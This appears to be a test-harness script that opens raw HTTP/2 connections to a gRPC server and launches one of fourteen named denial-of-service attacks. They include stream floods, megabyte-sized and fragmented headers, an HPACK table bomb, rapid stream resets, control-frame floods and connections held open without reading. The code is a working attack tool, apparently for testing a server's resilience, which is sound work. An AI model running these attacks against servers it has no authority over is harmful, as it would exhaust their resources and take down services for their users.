"""Says what the command names to a server of gRPC in plain text, by frames of its own. Run as any user, with python3 alone:

python3 plain_peer.py ATTACK HOST:PORT [CONNECTIONS]     "holding" once it has sent all that the server takes, then waits for
                                                         the end of its input; "closed N" counts connections the server has
                                                         closed, after "wait" in its input once it has closed all, or in HANG_S
"""
import functools
import select
import socket
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
FULL_S = 1  # connections that take no byte for so long are full; those of a slow server are called full earlier, and get less
HANG_S = 120.0  # as in tests/lib/deadlines.py, which another user may not be able to read


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


@functools.cache
def literal(name, value):
    """HPACK's literal field without a name in a table (RFC 7541, 6.2.2)."""
    def length(size):
        if size < 127:
            return bytes([size])
        size, rest = size - 127, [127]
        while size >= 128:
            rest.append(size % 128 + 128)
            size //= 128
        return bytes([*rest, size])
    return b"\0" + length(len(name)) + name + length(len(value)) + value


@functools.cache
def head(path, *more):
    fields = ((b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"x"),
              (b"content-type", b"application/grpc"), (b"te", b"trailers"), *more)
    return b"".join(literal(*field) for field in fields)


def streams(path, count, body=b"\0\0\0\0\0", end=END_STREAM):
    for number in range(count):
        yield frame(HEADERS, END_HEADERS, 2 * number + 1, head(path)) + frame(DATA, end, 2 * number + 1, body)


def in_fragments(stream, block, size=16384):
    yield frame(HEADERS, 0, stream, block[:size])
    for at in range(size, len(block), size):
        yield frame(CONTINUATION, END_HEADERS if at + size >= len(block) else 0, stream, block[at:at + size])


REFLECTION = b"/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
WATCH = b"/grpc.health.v1.Health/Watch"


def reflection():
    yield frame(SETTINGS, ACK, 0)
    yield from streams(REFLECTION, 2000, b"\0\0\0\0\2\x3a\0", end=0)


def watches():
    yield frame(SETTINGS, ACK, 0)
    yield from streams(WATCH, 4000)


def places():
    """All calls that a connection may have, watching, on a connection that reads nothing."""
    yield frame(SETTINGS, ACK, 0)
    yield from streams(WATCH, 8)


def big_headers():
    """1 MB each, and the server's SETTINGS never acknowledged."""
    for number in range(400):
        yield from in_fragments(2 * number + 1, head(WATCH, (b"x", b"y" * 1_000_000)))


def empty_fields():
    yield frame(SETTINGS, ACK, 0)
    for number in range(1000):
        yield frame(HEADERS, END_HEADERS, 2 * number + 1, head(WATCH) + b"\0\0\0" * 3500)


def long_string():
    yield frame(SETTINGS, ACK, 0)
    yield from in_fragments(1, head(WATCH, (b"x", b"y" * 8_000_000)), 1024)


def table_bomb():
    """A field of 4,000 bytes, put into HPACK's table once, and then named by single bytes."""
    yield frame(SETTINGS, ACK, 0)
    entry = b"\x40\1x\x7f\xa1\x1e" + b"y" * 4000
    for number in range(1000):
        yield frame(HEADERS, END_HEADERS, 2 * number + 1, head(WATCH) + (b"" if number else entry) + b"\xbe" * 12_000)


def unfinished():
    """Requests that say that they are as big as they may be, and never end."""
    yield frame(SETTINGS, ACK, 0)
    yield from streams(WATCH, 8, b"\0\0\0\x20\0" + b"x" * 8000, end=0)


def resets():
    yield frame(SETTINGS, ACK, 0)
    for number in range(5000):
        yield frame(HEADERS, END_HEADERS, 2 * number + 1, head(WATCH)) + frame(RST_STREAM, 0, 2 * number + 1, b"\0\0\0\x08")


def flood(one):
    yield frame(SETTINGS, ACK, 0)
    for _ in range(20_000):
        yield one


ATTACKS = {
    "reflection": reflection, "watches": watches, "places": places, "big_headers": big_headers, "empty_fields": empty_fields,
    "long_string": long_string, "table_bomb": table_bomb, "unfinished": unfinished, "resets": resets,
    "settings": lambda: flood(frame(SETTINGS, 0, 0)), "pings": lambda: flood(frame(PING, 0, 0, b"12345678")),
    "windows": lambda: flood(frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1")),
    "priorities": lambda: flood(frame(PRIORITY, 0, 7, b"\0\0\0\1\1")),
    "silence": lambda: iter(()),
}


class Peer:
    """A connection that sends what the attack yields for as long as the server takes it, and reads nothing."""

    def __init__(self, attack, host, port):
        self.bytes = attack()
        self.left = PREFACE + frame(SETTINGS, 0, 0)
        self.closed = False
        self.socket = socket.create_connection((host, port))
        self.socket.setblocking(False)

    def send(self):
        """False: there is nothing more to be sent, or nobody to send it to."""
        try:
            while True:
                if not self.left:
                    self.left = next(self.bytes, b"")
                    if not self.left:
                        return False
                self.left = self.left[self.socket.send(self.left):]
        except BlockingIOError:
            return True
        except OSError:
            self.closed = True
            return False

    def look(self):
        """Whether the server has closed it."""
        try:
            while not self.closed and self.socket.recv(65536):
                pass
            self.closed = True
        except BlockingIOError:
            pass
        except OSError:
            self.closed = True
        return self.closed


def main():
    host, port = sys.argv[2].rsplit(":", 1)
    peers = [Peer(ATTACKS[sys.argv[1]], host, int(port)) for _ in range(int(sys.argv[3]) if len(sys.argv) > 3 else 1)]
    sending = list(peers)
    while sending:
        _, writable, _ = select.select([], [peer.socket for peer in sending], [], FULL_S)
        if not writable:
            break
        sending = [peer for peer in sending if peer.socket not in writable or peer.send()]
    print("holding", flush=True)
    if sys.stdin.read() == "wait":
        end = time.monotonic() + HANG_S
        while (open_ones := [peer.socket for peer in peers if not peer.look()]) and time.monotonic() < end:
            select.select(open_ones, [], [], FULL_S)
    print("closed", sum(peer.look() for peer in peers), flush=True)


if __name__ == "__main__":
    main()
